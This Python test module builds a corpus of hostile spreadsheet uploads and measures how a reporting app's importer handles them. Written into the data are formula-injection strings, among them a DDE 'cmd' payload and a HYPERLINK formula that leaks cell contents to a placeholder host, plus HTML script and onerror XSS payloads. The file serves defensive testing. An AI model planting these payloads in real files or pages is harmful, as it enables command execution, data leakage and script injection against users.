"""The hostile upload corpus of issue 8, made in code (no binary is committed).

`CORPUS`: name -> `Case` (maker, file name, what must happen). It reuses the reader's
generators in tests/hostile.py (truncated and non-zip files, CSV/HTML renamed .xlsx, bombs,
XML entity expansion, 10,000 sheets, far cells, a password-protected workbook) and adds what
the issue lists on top:

- a 1,000,000-row sheet, its XML deflated while it is written (no 40 MB string in memory);
- a macro-enabled .xlsm (read, with a warning; macros are never run);
- formula-injection strings ("=HYPERLINK(...)", "+cmd...", "-1+1", "@SUM(1)") in every text
  field a return has: commune, village and note (stored as text cells, as Excel does for
  text typed with a leading apostrophe);
- village names with HTML/Markdown (`<script>`, `**x**`, `[a](javascript:...)`), a commune
  named with HTML (`<b>`, `<a href>`), and village names with bidi-override (U+202E) and
  zero-width (U+200B, U+200D, U+FEFF) characters.

`python tests/hostile_corpus.py --db URL [NAME ...]` imports each case through
`Store.import_bytes(..., keep_refused=False)` in a forked child of its own and prints one JSON
line per case: outcome, problems, seconds, peak RSS growth, database row counts before and after,
and any traceback or logged exception (tests/test_hostile_corpus.py reads them).
"""

from __future__ import annotations

import functools
import io
import json
import logging
import os
import resource
import sys
import time
import traceback
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl

sys.path.insert(0, str(Path(__file__).resolve().parent))

import hostile
from hostile import HOSTILE, minimal_xlsx, raw_zip, sheet_xml

from ntm.errors import Code

# --- big sheets, written as a stream -------------------------------------------------------


def _streamed_member(name: str, chunks: Callable[[], Any]) -> tuple[str, bytes, int, int]:
    """A zip member (raw deflate) from an iterator of byte chunks, CRC and size counted."""
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    out = io.BytesIO()
    crc = size = 0
    for chunk in chunks():
        crc = zlib.crc32(chunk, crc)
        size += len(chunk)
        out.write(comp.compress(chunk))
    out.write(comp.flush())
    return name, out.getvalue(), crc, size


def million_rows(rows: int = 1_000_000, batch: int = 10_000) -> bytes:
    """One sheet of `rows` rows (a number in A and B of each), streamed (≈ 4 MB on disk)."""
    head = sheet_xml("").split("<sheetData>")[0].encode() + b"<sheetData>"

    def chunks() -> Any:
        yield head
        for start in range(1, rows + 1, batch):
            end = min(start + batch, rows + 1)
            yield "".join(
                f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}"><v>{r % 97}</v></c></row>'
                for r in range(start, end)
            ).encode()
        yield b"</sheetData></worksheet>"

    base = minimal_xlsx([sheet_xml("")])
    members = hostile._members_of(base)
    members[-1] = _streamed_member("xl/worksheets/sheet1.xml", chunks)
    return raw_zip(members)


# --- returns with hostile text -------------------------------------------------------------

HEADER = ["Mã chỉ tiêu", "Nội dung chỉ tiêu", "Giá trị", "Tử số", "Mẫu số", "Ghi chú"]
INJECTIONS = {
    "hyperlink": '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")',
    "plus_cmd": "+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at_sum": "@SUM(1)",
}
HTML_VILLAGES = {
    "script": "<script>alert(1)</script>",
    "bold": "**x**",
    "link": "[a](javascript:alert(1))",
    "img": '<img src=x onerror="alert(1)">',
}
# name as written -> name as it must come out (format characters removed, spaces tidied)
CONTROL_VILLAGES = {
    "Thôn \u202eabc": "Thôn abc",  # RIGHT-TO-LEFT OVERRIDE
    "Thôn\u200b Hạ": "Thôn Hạ",  # ZERO WIDTH SPACE
    "\ufeffThôn Trung": "Thôn Trung",  # BYTE ORDER MARK / ZERO WIDTH NO-BREAK SPACE
    "Thôn\u200d Thượng": "Thôn Thượng",  # ZERO WIDTH JOINER
}
HTML_COMMUNE = '<b>Xã</b> <a href="http://example.invalid/">Bấm vào đây</a>'
SAFE_COMMUNE = "Xã Thử Nghiệm"  # the commune of the HTML/control-character villages
SAFE_COMMUNE_STORED = "Thử Nghiệm"  # the reader drops "Xã "


def register_villages(store: Any) -> None:
    """The commune's village register, as Cài đặt sets it up: two files name its villages
    (HTML, control characters), and a village the register does not know would hold a file."""
    from ntm.storage import CommuneProfile

    names = [*HTML_VILLAGES.values(), *CONTROL_VILLAGES.values()]
    store.save_commune(CommuneProfile(SAFE_COMMUNE_STORED, villages=names), user="setup")


def text_workbook(sheets: Mapping[str, Sequence[Sequence[Any]]]) -> bytes:
    """An .xlsx where every string is a text cell, even one starting with "=" (openpyxl would
    otherwise write it as a formula)."""
    wb = openpyxl.Workbook()
    first = wb.active
    assert first is not None
    wb.remove(first)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                if value is None:
                    continue
                cell = ws.cell(r, c)
                cell.value = value
                if isinstance(value, str):
                    cell.data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _village_sheet(commune: str, village: str, note: str | None, value: float) -> list[list[Any]]:
    return [
        ["Xã:", commune],
        ["Thôn/Bản:", village],
        ["Năm:", 2024],
        [],
        HEADER,
        ["2.2", "Tỷ lệ đường thôn được cứng hóa", value, None, None, note],
        ["17.10", "Tỷ lệ hộ có phân loại chất thải rắn tại nguồn", 50, None, None, note],
    ]


def injection_return(text: str) -> bytes:
    """A valid return whose commune, village and notes are all `text`."""
    return text_workbook({"Thon": _village_sheet(text, text, text, 95)})


def html_villages_return() -> bytes:
    """One commune, one sheet per village named with HTML/Markdown."""
    return text_workbook(
        {
            f"T{i}": _village_sheet(SAFE_COMMUNE, name, f"Ghi chú {name}", 60 + i)
            for i, name in enumerate(HTML_VILLAGES.values(), start=1)
        }
    )


def html_commune_return() -> bytes:
    """A return whose commune name is HTML (a bold tag and a link)."""
    return text_workbook({"Thon": _village_sheet(HTML_COMMUNE, "Thôn Một", None, 80)})


def control_villages_return() -> bytes:
    """One commune, one sheet per village named with bidi-override / zero-width characters."""
    return text_workbook(
        {
            f"K{i}": _village_sheet(SAFE_COMMUNE, name, None, 70 + i)
            for i, name in enumerate(CONTROL_VILLAGES, start=1)
        }
    )


def macro_xlsm() -> bytes:
    return hostile.macro_workbook()


# --- the corpus ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    maker: Callable[[], bytes]
    filename: str
    refused: bool  # True: refused with `code`; False: read (stored), `code` a warning or None
    code: Code | None


CORPUS: dict[str, Case] = {
    **{name: Case(maker, file, True, code) for name, (maker, file, code) in HOSTILE.items()},
    "10,000-sheet workbook": Case(
        lambda: hostile.many_sheets(10_000), "10000-sheets.xlsx", True, Code.TOO_MANY_SHEETS
    ),
    "1,000,000-row sheet": Case(million_rows, "1000000-rows.xlsx", True, Code.TOO_MANY_ROWS),
    "macro-enabled .xlsm": Case(macro_xlsm, "bao-cao.xlsm", False, Code.MACRO_WORKBOOK),
    **{
        f"formula injection ({key})": Case(
            functools.partial(injection_return, text), f"injection-{key}.xlsx", False, None
        )
        for key, text in INJECTIONS.items()
    },
    "village names with HTML/Markdown": Case(html_villages_return, "html.xlsx", False, None),
    "commune name with HTML": Case(html_commune_return, "html-commune.xlsx", False, None),
    "village names with RTL/zero-width": Case(control_villages_return, "control.xlsx", False, None),
}


# --- measuring one case in a child process -------------------------------------------------


def _counts(store: Any) -> dict[str, int]:
    import sqlalchemy as sa

    from ntm.storage import schema as S

    with store.engine.connect() as conn:
        return {
            table.name: int(conn.execute(sa.select(sa.func.count()).select_from(table)).scalar())
            for table in S.metadata.sorted_tables
        }


def _rss() -> int:
    with open("/proc/self/statm") as f:
        return int(f.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


class _Logged(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.WARNING)
        self.records: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        if record.exc_info or record.levelno >= logging.ERROR:
            self.records.append(self.format(record))


def _run_case(name: str, db_url: str) -> dict[str, Any]:
    from ntm.storage import Store

    case = CORPUS[name]
    logged = _Logged()
    logging.getLogger().addHandler(logged)
    report: dict[str, Any] = {"name": name, "file": case.filename}
    try:
        data = case.maker()
        report["bytes"] = len(data)
        store = Store(db_url)
        report["before"] = _counts(store)
        base = _rss()
        start = time.monotonic()
        outcome = store.import_bytes(data, case.filename, user="hostile", keep_refused=False)
        report["seconds"] = time.monotonic() - start
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
        report["rss_growth_mb"] = max(0, peak - base) / 2**20
        report["after"] = _counts(store)
        report["status"] = outcome.status
        report["problems"] = [
            {"code": p.code.value, "level": p.level.value, "message": p.message("vi")}
            for p in outcome.problems
        ]
        store.close()
    except BaseException:
        report["traceback"] = traceback.format_exc()
    report["logged"] = logged.records
    return report


def measure(names: Sequence[str], db_url: str, timeout: float = 60.0) -> list[dict[str, Any]]:
    """Import each case in a forked child (its own peak RSS; killed after `timeout` s)."""
    reports = []
    for name in names:
        read, write = os.pipe()
        pid = os.fork()
        if pid == 0:  # the child: one case, its report on the pipe, then exit at once
            os.close(read)
            try:
                body = json.dumps(_run_case(name, db_url)).encode()
            except BaseException:
                body = json.dumps({"name": name, "traceback": traceback.format_exc()}).encode()
            with os.fdopen(write, "wb") as pipe:
                pipe.write(body)
            os._exit(0)
        os.close(write)
        started = time.monotonic()
        chunks: list[bytes] = []
        os.set_blocking(read, False)
        while True:
            try:
                chunk = os.read(read, 1 << 16)
            except BlockingIOError:
                chunk = None
            if chunk:
                chunks.append(chunk)
                continue
            if chunk == b"":
                break
            if time.monotonic() - started > timeout:
                os.kill(pid, 9)
                break
            time.sleep(0.01)
        os.close(read)
        _, status = os.waitpid(pid, 0)
        wall = time.monotonic() - started
        try:
            report = json.loads(b"".join(chunks) or b"{}")
        except json.JSONDecodeError:
            report = {}
        report.setdefault("name", name)
        report["exit_status"] = status
        report["wall_seconds"] = wall
        if not chunks:
            report.setdefault("traceback", f"child ended without a report (status {status})")
        reports.append(report)
    return reports


def main(argv: Sequence[str] | None = None) -> int:
    import argparse

    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--db", required=True, help="SQLAlchemy URL (migrated here)")
    parser.add_argument("--timeout", type=float, default=60.0)
    parser.add_argument("names", nargs="*", help="cases (default: all)")
    args = parser.parse_args(argv)
    from ntm.storage import Store

    store = Store(args.db).migrate()
    register_villages(store)
    store.close()
    for report in measure(args.names or list(CORPUS), args.db, args.timeout):
        print(json.dumps(report, ensure_ascii=False), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
